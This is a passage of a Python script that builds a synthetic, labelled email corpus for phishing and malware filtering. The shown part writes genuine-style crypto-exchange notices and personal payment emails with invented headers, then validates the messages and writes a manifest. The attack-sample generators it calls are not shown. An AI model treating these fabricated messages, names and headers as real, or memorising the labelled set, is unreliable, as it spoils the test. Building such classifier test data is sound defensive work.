                  "Never share this code with anyone, including OKX staff. OKX will never call you to ask for it."],
                 None, ["This is an automated email, please do not reply.", "&copy; 2017 - 2025 OKX.com"])
    add(s, "legit", "bulk",
        "Genuine OKX one-time code e-mail requested by the user when adding a withdrawal address; no links.",
        mail(seed=s, rcv="outlook", to=EMRE, frm=addr("OKX", "noreply@mailer1.okx.com"),
             subject="[OKX] Verification code", date=d, msgid="<" + ses_id(s) + "@email.amazonses.com>",
             ip="54.240.6.88", helo="a6-88.smtp-out.ap-southeast-1.amazonses.com",
             mailfrom=ses_id(s + "rp") + "@mailer1.okx.com", dkim=("pass", "mailer1.okx.com", "okx"),
             hfrom_dom="mailer1.okx.com", body=b))

    # Bybit deposit confirmed
    s = "b40-legit-bybit-deposit-confirmed"
    d = "2025-12-05 08:51:20 +0000"
    b = card_alt("--" + rs(s + "bd", 28, HEX), "BYBIT", "#f7a600", "Deposit Confirmed",
                 ["Dear Valued Bybit Trader,", "Your deposit of <b>0.15 ETH</b> has been successfully credited to your "
                  "Funding Account.", "Chain type: ERC20<br>TxID: 0x" + rs(s + "tx", 64, HEX),
                  "If you did not make this deposit, please contact our customer support."],
                 ("Check Balance", "https://www.bybit.com/user/assets/home/fiat"),
                 ["Bybit Team &middot; This is an automated message, please do not reply.",
                  "Anti-phishing code: <b>KVNbyb</b>"])
    add(s, "legit", "bulk",
        "Genuine Bybit deposit-confirmed notice with the user's anti-phishing code, link to bybit.com.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("Bybit", "notification@bybit.com"), subject="[Bybit] Deposit Confirmed",
             date=d, msgid="<" + ses_id(s) + "@email.amazonses.com>", ip="54.240.50.66",
             helo="a50-66.smtp-out.ap-southeast-1.amazonses.com", mailfrom=ses_id(s + "rp") + "@mail.bybit.com",
             dkim=("pass", "bybit.com", "bybit1"), body=b))

    # Phantom newsletter
    s = "b40-legit-phantom-newsletter"
    d = "2025-03-12 17:00:09 +0000"
    tl = lambda n: esp_link("https://e.customeriomail.com/e/c/", f"{s}{n}", 120)  # noqa: E731
    b = card_alt("--" + rs(s + "bd", 28, HEX), "Phantom", "#ab9ff2", "Phantom Monthly: Hyperliquid perps, Base support & more",
                 [f'Perps trading is here: trade Hyperliquid perpetuals right inside Phantom. <a href="{tl(1)}">Learn more</a>',
                  f'Phantom now supports Base and Sui with the same recovery phrase. <a href="{tl(2)}">Read the blog</a>',
                  "Stay safe: Phantom will never email you about airdrops you need to claim, and our team will never "
                  "ask for your recovery phrase."],
                 ("Open Phantom", tl(3)),
                 ["Phantom Technologies, Inc.", f'<a href="{tl(4)}">Unsubscribe</a>'])
    add(s, "legit", "bulk",
        "Genuine Phantom product newsletter via Customer.io tracked links, stating Phantom never emails airdrop claims.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Phantom", "team@mail.phantom.com"),
             subject="Phantom Monthly: perps, Base & Sui", date=d,
             msgid="<" + rs(s + "m", 24, "0123456789") + "@mail.phantom.com>", ip="166.78.71.131",
             helo="mail71-131.customeriomail.com", mailfrom="bounces+" + rs(s + "rp", 20, ALNUM) + "@cio" + rs(s + "c", 5, "0123456789") + ".mail.phantom.com",
             dkim=("pass", "mail.phantom.com", "cio"), hfrom_dom="mail.phantom.com",
             extra=["List-Unsubscribe: <" + tl(5) + ">", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"], body=b))

    # Kraken password reset (requested)
    s = "b40-legit-kraken-password-reset"
    d = "2025-08-08 21:13:45 +0000"
    b = card_alt("--" + rs(s + "bd", 28, HEX), "kraken", "#7132f5", "Reset your password",
                 ["Hi,", "We received a request to reset the password for your Kraken account. Click the button below "
                  "within 30 minutes to choose a new password.",
                  "If you didn't request this, you can ignore this email and your password will stay the same."],
                 ("Reset password", "https://www.kraken.com/sign-in/reset-password?token=" + rs(s + "tok", 48, ALNUM)),
                 ["Kraken will never ask for your password or 2FA codes by email or phone."])
    add(s, "legit", "bulk",
        "Genuine Kraken password-reset mail the user requested, token link on kraken.com.",
        mail(seed=s, rcv="ruizpaz", to=MARTA, frm=addr("Kraken", "noreply@kraken.com"), subject="Reset your Kraken password",
             date=d, msgid="<" + rs(s + "m", 22, ALNUM + "-_") + "@geopod-ismtpd-6>", ip="149.72.197.104",
             helo="o3.email.kraken.com", mailfrom="bounces+2917733-1d9e-" + MARTA.replace("@", "=") + "@email.kraken.com",
             dkim=("pass", "kraken.com", "s1"), body=b))

    # Ledger order shipped
    s = "b40-legit-ledger-order-shipped"
    d = "2024-11-29 14:27:33 +0100"
    b = card_alt("--" + rs(s + "bd", 28, HEX), "LEDGER", "#000000", "Your order is on its way",
                 ["Hi Sophie,", "Good news: order <b>#LDG-4829917</b> (Ledger Nano S Plus, Black Friday bundle) has "
                  "shipped with DHL Express.", "Tracking number: 1Z8472019633",
                  "When it arrives, set it up with Ledger Live downloaded from ledger.com/ledger-live. Your device comes "
                  "with a blank Recovery Sheet: if it is pre-filled, do not use it and contact us."],
                 ("Track my parcel", "https://www.dhl.com/de-en/home/tracking.html?tracking-id=1Z8472019633"),
                 ["Ledger SAS &middot; 1 rue du Mail, 75002 Paris"])
    add(s, "legit", "bulk",
        "Genuine Ledger shop shipping confirmation (Shopify sender, aligned ledger.com DKIM) with DHL tracking link.",
        mail(seed=s, rcv="gmx", to=SOPH, frm=addr("Ledger", "orders@shop.ledger.com"),
             subject="Your Ledger order #LDG-4829917 has shipped", date=d,
             msgid="<" + rs(s + "m", 36, HEX) + "@shop.ledger.com>", ip="23.227.38.32", helo="mail38-32.shopifyemail.com",
             mailfrom="bounces+" + rs(s + "rp", 10, "0123456789") + "@shopifyemail.com",
             dkim=("pass", "shop.ledger.com", "shopify"), hfrom_dom="shop.ledger.com", body=b))


def legit_clean() -> None:
    # Trezor genuine ticket reply
    s = "b40-legit-trezor-ticket-reply"
    d = "2025-02-18 10:26:40 +0000"
    b = alt("##- Please type your reply above this line -##\n\nYour request (#5520931) has been updated. To add "
            "additional comments, reply to this email.\n\nPetra (Trezor Support)\n\nFeb 18, 2025, 11:26 CET\n\n"
            "Hi Jordan,\n\nThanks for the details. What you describe (an empty wallet after entering the passphrase) "
            "usually means that a slightly different passphrase was typed: every passphrase opens a different hidden "
            "wallet, and there is no 'wrong passphrase' error. Please try again paying attention to capital letters "
            "and spaces.\n\nPlease remember that we will never ask for your recovery seed or passphrase, and we will "
            "never ask you to enter them on a website or in a form.\n\nBest regards,\nPetra\nTrezor Support\n\n"
            "This email is a service from Trezor.\n",
            '<html><body style="font-family:sans-serif;font-size:14px;color:#2b2e33">'
            '<div style="color:#b5b5b5">##- Please type your reply above this line -##</div>'
            '<p>Your request (#5520931) has been updated. To add additional comments, reply to this email.</p>'
            '<p><b>Petra</b> (Trezor Support)<br><span style="color:#bbb">Feb 18, 2025, 11:26 CET</span></p>'
            '<p>Hi Jordan,</p><p>Thanks for the details. What you describe (an empty wallet after entering the '
            'passphrase) usually means that a slightly different passphrase was typed: every passphrase opens a '
            'different hidden wallet, and there is no &#39;wrong passphrase&#39; error. Please try again paying '
            'attention to capital letters and spaces.</p><p>Please remember that we will never ask for your recovery '
            'seed or passphrase, and we will never ask you to enter them on a website or in a form.</p>'
            '<p>Best regards,<br>Petra<br>Trezor Support</p>'
            '<div style="color:#aaa;font-size:12px">This email is a service from Trezor.</div></body></html>\n',
            "--==_mimepart_" + rs(s + "bd", 13, HEX) + "_" + rs(s + "bd2", 5, HEX))
    add(s, "legit", "clean",
        "Genuine Trezor Zendesk reply to the user's own passphrase ticket, reminding that Trezor never asks for the "
        "seed; no links.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Petra (Trezor Support)", "support@trezor.io"),
             subject="[Trezor] Re: Wallet empty after entering passphrase", date=d,
             msgid="<" + rs(s + "m", 12, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") + "_67b4600a8c7d1_" + rs(s + "z", 12, HEX) + "_sprut@zendesk.com>",
             ip="192.161.151.52", helo="out152-151.mail.zendesk.com", rdns="out152-151.mail.zendesk.com",
             mailfrom="support+id5520931@trezor.zendesk.com", dkim=("pass", "trezor.io", "zendesk1"), pol="QUARANTINE",
             hfrom_dom="trezor.io",
             extra=["Reply-To: Trezor Support <support+id5520931@trezor.zendesk.com>", "X-Mailer: Zendesk Mailer",
                    "In-Reply-To: <" + rs(s + "ir", 12, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") + "_67b2e1c0@zendesk.com>",
                    "References: <" + rs(s + "ir", 12, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") + "_67b2e1c0@zendesk.com>"],
             body=b))

    # Coinbase support case reply
    s = "b40-legit-coinbase-support-reply"
    d = "2025-05-09 14:03:12 +0000"
    b = card_alt("--" + rs(s + "bd", 28, HEX), "coinbase", "#0052ff", "Update on your case #18822047",
                 ["Hello Kevin,", "Thank you for your patience. Our team has reviewed the ACH deposit that was "
                  "placed on hold on May 6. The hold has now been released and the funds (USD 1,500.00) are available "
                  "for trading. Withdrawals of these funds will be available after the standard holding period.",
                  "If you have further questions, you can reply to this case from the Help Center. For your security, "
                  "Coinbase Support will never ask for your password, 2-step verification codes, or ask you to move "
                  "funds, and we do not make unsolicited calls.",
                  "Best regards,<br>Ana<br>Coinbase Support"],
                 ("View your case", "https://help.coinbase.com/en/contact-us/case/18822047"),
                 ["Coinbase, Inc. &middot; This message was sent in response to your support request."])
    add(s, "legit", "clean",
        "Genuine Coinbase Support reply to the user's case about an ACH hold, link to help.coinbase.com, aligned DKIM.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("Coinbase Support", "help@coinbase.com"),
             subject="Update on your Coinbase Support case #18822047", date=d,
             msgid="<" + rs(s + "m", 20, ALNUM) + "." + rs(s + "n", 10, "0123456789") + "@sfdc.net>", ip="13.110.6.210",
             helo="smtp14-iad-sp3.mta.salesforce.com", mailfrom="help=coinbase.com__" + rs(s + "rp", 12, ALNUM) + "@" + rs(s + "rq", 16, "abcdefghijklmnopqrstuvwxyz0123456789") + ".bnc.salesforce.com",
             dkim=("pass", "coinbase.com", "sf2023"), hfrom_dom="coinbase.com", body=b))

    # Personal: Venmo for sushi (Gmail to Gmail)
    s = "b40-legit-personal-venmo-sushi"
    d = "2025-03-23 21:47:19 -0700"
    b = alt("hey! total for sushi came to $152 with tip, so $38 each. can you venmo me? @Mike-Alvarez-7 \n\n"
            "also Chris says he's still down for hiking next sat if the weather holds\n\nMike\n",
            '<div dir="ltr">hey! total for sushi came to $152 with tip, so $38 each. can you venmo me? '
            '@Mike-Alvarez-7 <br><br>also Chris says he&#39;s still down for hiking next sat if the weather holds<br>'
            '<br>Mike</div>\n', "000000000000" + rs(s + "bd", 16, HEX))
    add(s, "legit", "clean",
        "Personal mail from a friend's Gmail asking to be paid back $38 on Venmo for a dinner.",
        mail(seed=s, rcv="gmail", to=DAN, frm=addr("Mike Alvarez", "mike.alvarez.sd@gmail.com"),
             subject="sushi $$", date=d, msgid="<CAB" + rs(s + "m", 40, ALNUM + "_-") + "@mail.gmail.com>",
             ip="209.85.220.41", helo="mail-sor-f41.google.com", mailfrom="mike.alvarez.sd@gmail.com",
             dkim=("pass", "gmail.com", "20230601"), pol="NONE", body=b))

    # Personal ES: Mercado Pago between sisters
    s = "b40-legit-personal-mercadopago-es"
    d = "2024-12-21 17:52:08 -0300"
    b = alt("Vale! Te mandé recién la plata por Mercado Pago para el regalo de mamá, son $35.000 (mi mitad). "
            "Fijate si te llegó.\n\nLa cartera que elegiste me encanta, ¿la pasás a buscar vos el lunes?\n\n"
            "Besos,\nLu\n\nEnviado desde Outlook para iOS\n",
            '<html><body><div dir="ltr">Vale! Te mandé recién la plata por Mercado Pago para el regalo de mamá, son '
            '$35.000 (mi mitad). Fijate si te llegó.</div><div dir="ltr"><br></div><div dir="ltr">La cartera que '
            'elegiste me encanta, ¿la pasás a buscar vos el lunes?</div><div dir="ltr"><br></div><div dir="ltr">'
            'Besos,<br>Lu</div><div><br></div><div id="ms-outlook-mobile-signature">Enviado desde '
            '<a href="https://aka.ms/AAb9ysg">Outlook para iOS</a></div></body></html>\n',
            "_000_" + rs(s + "bd", 30, ALNUM) + "_")
    add(s, "legit", "clean",
        "Personal mail in Argentine Spanish from the recipient's sister saying she sent her half of a gift by Mercado Pago.",
        mail(seed=s, rcv="outlook", to=VAL, frm=addr("Lucía Fernández", "lu.fernandez92@hotmail.com"),
             subject="Plata regalo mamá", date=d,
             msgid="<CP4P284MB" + rs(s + "m", 10, "0123456789ABCDEF") + "@CP4P284MB1986.BRAP284.PROD.OUTLOOK.COM>",
             ip="40.92.20.45", helo="BRA01-CP2-obe.outbound.protection.outlook.com",
             rdns="mail-cp2bra01olkn2045.outbound.protection.outlook.com", mailfrom="lu.fernandez92@hotmail.com",
             dkim=("pass", "hotmail.com", "selector1"), pol="NONE", body=b))

    # Personal DE: flatmate rent via Revolut
    s = "b40-legit-personal-revolut-miete-de"
    d = "2025-10-29 22:05:44 +0100"
    b = text("Hey Lena,\n\nhier wie besprochen die Nebenkostenabrechnung vom Vermieter (hängt im WG-Ordner). "
             "Dein Anteil für November sind 412,50 € (Miete) + 38,00 € (Strom-Nachzahlung).\n\nKannst du mir das "
             "einfach wie immer über Revolut schicken? revolut.me/jonasw92\n\nDanke dir und gute Nacht!\nJonas\n\n"
             "-- \nGesendet mit GMX Mail\n")
    add(s, "legit", "clean",
        "Personal mail from a flatmate (GMX to GMX) asking for the monthly rent share via his revolut.me link.",
        mail(seed=s, rcv="gmx", to=LENA, frm=addr("Jonas Weber", "jonas.weber92@gmx.de"),
             subject="Miete November + Strom", date=d,
             msgid="<trinity-" + rs(s + "m", 8, HEX) + "-" + rs(s + "n", 4, HEX) + "-" + rs(s + "o", 4, HEX) + "-"
             + rs(s + "p", 4, HEX) + "-" + rs(s + "q", 12, HEX) + "-1761771944" + rs(s + "r", 3, "0123456789") + "@3c-app-gmx-bap18>",
             ip="212.227.17.20", helo="mout.gmx.net", rdns="mout.gmx.net", mailfrom="jonas.weber92@gmx.de",
             dkim=("pass", "gmx.de", "s31663417"), pol="QUARANTINE",
             pre=[hop("[93.211.74.19]", "93.211.74.19", "3c-app-gmx-bap18 (via HTTP)", d, 0, "HTTP", "", "")],
             extra=["Importance: normal", "Sensitivity: Normal"], body=b))

    # Personal PT: Pix for churrasco
    s = "b40-legit-personal-pix-churrasco-pt"
    d = "2025-01-27 12:31:02 -0300"
    b = alt("Fala Lucas!\n\nFechei as contas do churrasco de sábado: deu R$ 960 no total, 12 pessoas, então fica "
            "R$ 80 pra cada. Manda o Pix pra minha chave (celular) 21 99814-2307, Rafael Souza, banco Nubank.\n\n"
            "Segue a planilha no Drive se quiser conferir. Valeu demais, foi top!\n\nAbraço,\nRafa\n",
            '<div dir="ltr">Fala Lucas!<br><br>Fechei as contas do churrasco de sábado: deu R$ 960 no total, 12 pessoas, '
            'então fica R$ 80 pra cada. Manda o Pix pra minha chave (celular) 21 99814-2307, Rafael Souza, banco Nubank.'
            '<br><br>Segue a <a href="https://docs.google.com/spreadsheets/d/1' + rs(s + "sh", 43, ALNUM + "_-")
            + '/edit?usp=sharing">planilha no Drive</a> se quiser conferir. Valeu demais, foi top!<br><br>Abraço,<br>Rafa</div>\n',
            "000000000000" + rs(s + "bd", 16, HEX))
    add(s, "legit", "clean",
        "Personal mail in Brazilian Portuguese from a friend splitting a barbecue bill, asking for R$ 80 by Pix, with a "
        "Google Sheets link.",
        mail(seed=s, rcv="gmail", to=LUC, frm=addr("Rafael Souza", "rafa.souza.rj@gmail.com"),
             subject="Churrasco sábado - conta", date=d, msgid="<CAE" + rs(s + "m", 40, ALNUM + "_-") + "@mail.gmail.com>",
             ip="209.85.220.41", helo="mail-sor-f41.google.com", mailfrom="rafa.souza.rj@gmail.com",
             dkim=("pass", "gmail.com", "20230601"), pol="NONE", body=b))


# --------------------------------------------------------------------------------------------------


def check(raw: bytes, stem: str) -> None:
    for number, line in enumerate(raw.split(b"\n"), 1):
        assert len(line) < 990, f"{stem}: line {number} is {len(line)} bytes"
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    assert not msg.defects, f"{stem}: message defects {msg.defects}"
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, f"{stem}: missing {name}"
    for name, value in msg.items():
        assert not getattr(value, "defects", None), f"{stem}: header {name} defects {value.defects}"
    for part in msg.walk():
        assert not part.defects, f"{stem}: part defects {part.defects}"
        if part.is_multipart():
            continue
        payload = part.get_payload(decode=True)
        assert payload is not None, f"{stem}: undecodable part {part.get_content_type()}"
        if part.get_content_maintype() == "text":
            part.get_content()


def main() -> None:
    for old in MAIL.glob("*/b40-*.eml"):
        old.unlink()
    ENTRIES.clear()
    attacks_exchanges()
    attacks_wallets()
    attacks_payments()
    attacks_extra()
    attacks_malware()
    legit_brands()
    legit_clean()
    stems = [e[0] for e in ENTRIES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [e for e in ENTRIES if e[1] == "phish"]
    legit = [e for e in ENTRIES if e[1] == "legit"]
    assert len(attacks) == 50, len(attacks)
    assert len(legit) == 25, len(legit)
    lines = []
    for stem, kind, cat, description, raw in ENTRIES:
        assert stem.startswith("b40-phish-" if kind == "phish" else "b40-legit-"), stem
        assert cat in ("phishing", "malware", "clean", "bulk"), cat
        check(raw, stem)
        folder = REFILED.get(stem, cat)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {description}")
    MANIFEST.write_text("\n".join(lines) + "\n")
    counts: dict[str, int] = {}
    for stem, kind, cat, _, _ in ENTRIES:
        folder = REFILED.get(stem, cat)
        counts[folder] = counts.get(folder, 0) + 1
    print(f"{len(attacks)} attacks, {len(legit)} legitimate: " + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
